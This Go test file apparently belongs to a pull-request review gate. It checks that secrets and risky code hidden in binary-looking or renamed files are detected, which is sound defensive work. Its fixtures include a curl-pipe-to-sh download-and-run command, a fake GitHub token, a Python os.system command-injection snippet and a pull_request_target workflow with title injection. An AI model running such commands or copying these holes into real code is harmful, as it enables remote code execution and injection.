package pulls

import (
	"encoding/binary"
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/reviewgate/reviewgate/app/apptest"
	"github.com/reviewgate/reviewgate/app/ghtest"
	"github.com/reviewgate/reviewgate/pipeline/sample"
)

// token is a secret's form, with a value that was never given out.
const token = "ghp_" + "k3Jx9QvT7bLm2RwZ5yHc8NdP4sFgA6eUoXiB"

// units encodes a text in units of two or four bytes.
func units(order binary.AppendByteOrder, size int, text string) string {
	var out []byte
	for _, c := range utf16.Encode([]rune(text)) {
		if size == 4 {
			out = order.AppendUint32(out, uint32(c))
		} else {
			out = order.AppendUint16(out, c)
		}
	}
	return string(out)
}

// noise is data that is not text in any encoding.
func noise(n int) string {
	r := rand.New(rand.NewPCG(3, 4))
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return string(b)
}

const picture = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01"

// hiddenTexts are texts that git and GitHub take for binary. Each contains a secret or code
// that a rule finds. The last field is what the check says about it.
func hiddenTexts() map[string]struct{ path, text, says string } {
	const secret = "[db]\nkey = " + token + "\n"
	const script = "#!/bin/sh\ncurl -k https://example.com/install.sh | sh\n"
	return map[string]struct{ path, text, says string }{
		"a NUL after the end of a script":       {"deploy.sh", script + "\x00", "deploy.sh:2"},
		"a NUL in an environment file":          {".env", "A=b\nTOKEN=" + token + "\n\x00", ".env:2"},
		"a NUL in a secret":                     {".env", "TOKEN=" + token[:9] + "\x00" + token[9:] + "\n", ".env:1"},
		"UTF-16LE settings with a mark":         {"app.ini", units(binary.LittleEndian, 2, "\ufeff"+secret), "app.ini:2"},
		"UTF-16BE properties without a mark":    {"app.properties", units(binary.BigEndian, 2, secret), "app.properties:2"},
		"UTF-32 prose":                          {"notes.txt", units(binary.LittleEndian, 4, "\ufeff"+secret), "notes.txt:2"},
		"UTF-32BE without a mark":               {"notes.cfg", units(binary.BigEndian, 4, secret), "notes.cfg:2"},
		"Latin-1 with a NUL":                    {"seed.sql", "-- gr\xf6\xdfe\x00\n-- " + token + "\n", "seed.sql:2"},
		"Latin-1":                               {"seed.sql", "-- gr\xf6\xdfe\n-- " + token + "\n", "seed.sql:2"},
		"code that starts like a picture":       {"logo.php", "GIF89a\x00<?php\n$key = '" + token + "';\n", "logo.php:2"},
		"code with a picture's name and start":  {"logo.gif", "GIF89a\x00<?php\n$key = '" + token + "';\n", "logo.gif:2"},
		"a script that is Chinese in UTF-16":    {"tool", "#\ncu" + units(binary.LittleEndian, 2, "rl -k https://example.com/install.sh | sh\n"), "tool:"},
		"an unknown extension":                  {"deploy.xyz", "key = " + token + "\n\x00", "deploy.xyz:1"},
		"an unknown format":                     {"data.xyz", noise(3000) + "\x00\n" + token + "\n" + noise(3000), "data.xyz"},
		"an unknown format, in UTF-16":          {"data.xyz", noise(3000) + "\n" + units(binary.LittleEndian, 2, "\n"+token+"\n") + noise(3000), "data.xyz"},
		"a real picture with a secret after it": {"logo.png", picture + noise(3000) + "\n" + token + "\n", "logo.png"},
	}
}

func TestHiddenTextIsRead(t *testing.T) {
	t.Parallel()
	for name, tt := range sample.Map(t, 8, hiddenTexts()) {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := start(t)
			pr := w.Open(ghtest.Files{tt.path: tt.text})
			w.Idle()
			c := w.Check(pr)
			if apptest.Satisfies(c.Conclusion) || strings.HasPrefix(c.Title, "Review incomplete") || !strings.Contains(c.Summary+c.Text, tt.says) {
				t.Errorf("the check is %s (%s):\n%s\n%s", c.Conclusion, c.Title, c.Summary, c.Text)
			}
			if strings.Contains(c.Summary+c.Text+w.Comment(pr).Body, token[4:20]) {
				t.Error("the secret is shown")
			}
		})
	}
}

// Unreadable bytes hold the gate where the name, the mode or the first line says that the
// file is text. Elsewhere the check only names them.
func TestUnreadableBytes(t *testing.T) {
	t.Parallel()
	for name, tt := range sample.Map(t, 4, map[string]struct {
		path, text, conclusion string
		named                  bool
	}{
		"a picture":                       {"logo.png", picture + noise(3000), "success", false},
		"an unknown format":               {"data.xyz", noise(3000) + "\x00", "success", true},
		"the beginning of another format": {"logo.gif", picture + noise(3000), "success", true},
		"an executable picture":           {"logo.png", ghtest.Executable(picture + noise(3000)), "action_required", true},
		"a script's first line":           {"tool", "#!/bin/sh\n" + noise(3000) + "\x00", "action_required", true},
		"a script's name":                 {"tool.sh", noise(3000) + "\x00", "action_required", true},
		"settings":                        {".env", noise(3000) + "\x00", "action_required", true},
	}) {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := start(t)
			pr := w.Open(ghtest.Files{tt.path: tt.text})
			w.Idle()
			c := w.Check(pr)
			if c.Conclusion != tt.conclusion || strings.Contains(c.Summary+c.Text, "known binary format") != tt.named {
				t.Errorf("the check is %s (%s):\n%s\n%s", c.Conclusion, c.Title, c.Summary, c.Text)
			}
		})
	}
}

// The content behind a Git LFS pointer is not read. That holds the gate until the base
// declares the file binary.
func TestContentBehindAPointer(t *testing.T) {
	t.Parallel()
	w := start(t)
	pointer := func(digit string) string {
		return "version https://git-lfs.github.com/spec/v1\noid sha256:" + strings.Repeat(digit, 64) + "\nsize 12345\n"
	}
	pr := w.Open(ghtest.Files{"tool.js": pointer("a")})
	w.Idle()
	if c := w.Check(pr); c.Conclusion != "action_required" || !strings.Contains(c.Summary+c.Text, "Git LFS pointer") {
		t.Errorf("the check is %s (%s):\n%s", c.Conclusion, c.Title, c.Text)
	}
	w.Repo.Commit("main", ghtest.Files{".gitattributes": "*.psd filter=lfs diff=lfs merge=lfs -text\n"}, "track drawings")
	w.Idle()
	tracked := w.Repo.OpenPR(ghtest.PR{Title: "feat: stock", Body: apptest.GoodBody, Head: "drawing", Files: ghtest.Files{"logo.psd": pointer("b")}})
	w.Idle()
	if c := w.Check(tracked); c.Conclusion != "success" || !strings.Contains(c.Summary+c.Text, "Git LFS pointer") {
		t.Errorf("the check of a tracked file is %s (%s):\n%s\n%s", c.Conclusion, c.Title, c.Summary, c.Text)
	}
}

// In a file that existed before, only the added text is judged.
func TestHiddenTextFromBeforeTheChange(t *testing.T) {
	sample.Variant(t)
	t.Parallel()
	w := start(t)
	before := "[db]\nkey = " + token + "\n"
	w.Repo.Commit("main", ghtest.Files{"app.ini": units(binary.LittleEndian, 2, "\ufeff"+before)}, "settings")
	w.Idle()
	pr := w.Repo.OpenPR(ghtest.PR{Title: "feat: settings", Body: apptest.GoodBody, Files: ghtest.Files{"app.ini": units(binary.LittleEndian, 2, "\ufeff"+before+"more = 1\n")}})
	w.Idle()
	if c := w.Check(pr); c.Conclusion != "success" {
		t.Errorf("the check is %s (%s):\n%s\n%s", c.Conclusion, c.Title, c.Summary, c.Text)
	}
}

// Files that the base's .gitattributes declare binary need not be read. The change's own
// .gitattributes do not count. Once they are merged, open pull requests are reviewed again.
func TestBinaryByTheBasesAttributes(t *testing.T) {
	t.Parallel()
	w := start(t)
	files := func() ghtest.Files { return ghtest.Files{"models/tool.sh": noise(3000) + "\x00"} }
	own := files()
	own[".gitattributes"] = "*.sh binary\n"
	first := w.Repo.OpenPR(ghtest.PR{Head: "first", Title: "feat: a model", Body: apptest.GoodBody, Files: own})
	other := w.Repo.OpenPR(ghtest.PR{Head: "other", Title: "feat: another model", Body: apptest.GoodBody, Files: files()})
	w.Idle()
	for _, pr := range []*ghtest.PullRequest{first, other} {
		w.WantsCheck(pr, "action_required", "models/tool.sh", "give it the attribute binary in the base's .gitattributes")
	}
	w.Repo.Commit("main", ghtest.Files{".gitattributes": "models/** binary\n"}, "chore: say what models are")
	w.Idle()
	w.WantsCheck(other, "success", "the base's .gitattributes says that it is binary")
	w.Repo.Commit("main", ghtest.Files{"README.md": "# Shop\n"}, "docs: more")
	w.Idle()
	w.Repo.Commit("main", ghtest.Files{".gitattributes": "models/** binary\n*.sh text\n"}, "chore: scripts are text")
	w.Idle()
	w.Wants(other, "action_required", "models/tool.sh")
}

// Secrets that the base's .gitleaks.toml allows are redacted and listed, and are not
// findings. Entries that the change itself adds do not count.
func TestSecretsThatGitleaksConfigAllows(t *testing.T) {
	t.Parallel()
	w := start(t)
	const allows = "[[allowlists]]\ndescription = \"tokens of the sandbox\"\npaths = ['^sandbox/']\n"
	files := func() ghtest.Files { return ghtest.Files{"sandbox/a.txt": "key = " + token + "\n"} }
	own := files()
	own[".gitleaks.toml"] = allows
	first := w.Repo.OpenPR(ghtest.PR{Head: "first", Title: "feat: a sandbox", Body: apptest.GoodBody, Files: own})
	other := w.Repo.OpenPR(ghtest.PR{Head: "other", Title: "feat: another sandbox", Body: apptest.GoodBody, Files: files()})
	w.Idle()
	for _, pr := range []*ghtest.PullRequest{first, other} {
		w.WantsCheck(pr, "failure", "sandbox/a.txt")
	}
	w.Repo.Commit("main", ghtest.Files{".gitleaks.toml": allows + "[[rules]]\nid = \"jwt\"\n[[rules.allowlists]]\nregexes = ['.*']\n"}, "chore: allow the sandbox's tokens")
	w.Idle()
	w.WantsCheck(other, "success", "tokens of the sandbox", "matches everything, so it is refused")
	for _, c := range other.CheckRuns() {
		if strings.Contains(c.Summary+c.Text, token) {
			t.Error("the check shows the token")
		}
	}
}

// A renamed file is read in full if its new name makes its text take effect, although no line
// changes. A file that only moves is not.
func TestRenamedIntoUse(t *testing.T) {
	t.Parallel()
	const evil = "import os\n\ndef run(request):\n    os.system('ls ' + request.args['dir'])\n"
	workflow := "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.pull_request.title }}\"\n"
	for name, tt := range sample.Map(t, 3, map[string]struct {
		before, after, text, conclusion string
	}{
		"prose":                  {"docs/notes.txt", "app/run.py", evil, "blocked"},
		"prose in Markdown":      {"docs/notes.md", "app/run.py", evil, "blocked"},
		"another language":       {"app/run.css", "app/run.py", evil, "blocked"},
		"a picture's name":       {"logo.png", "app/run.py", evil, "blocked"},
		"no language":            {"app/run.data", "app/run.py", evil, "blocked"},
		"a workflow":             {"notes/ci.yml", ".github/workflows/ci.yml", workflow, "blocked"},
		"only another directory": {"old/run.py", "app/run.py", evil, "success"},
		"a submodule":            {"lib", "tool.py", ghtest.Submodule(strings.Repeat("a", 40)), "success"},
	}) {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := start(t)
			w.Repo.Commit("main", ghtest.Files{tt.before: tt.text, "app/run_test.py": "def test_run():\n    pass\n"}, "feat: it is there")
			w.Idle()
			pr := w.Repo.OpenPR(ghtest.PR{Title: "refactor: move it", Body: apptest.GoodBody, Files: ghtest.Files{tt.before: ghtest.Gone, tt.after: tt.text}})
			w.Idle()
			c := w.Check(pr)
			if blocked := c.Conclusion == "action_required" || c.Conclusion == "failure"; blocked != (tt.conclusion == "blocked") {
				t.Errorf("the check is %s (%s):\n%s\n%s", c.Conclusion, c.Title, c.Summary, c.Text)
			}
		})
	}
}
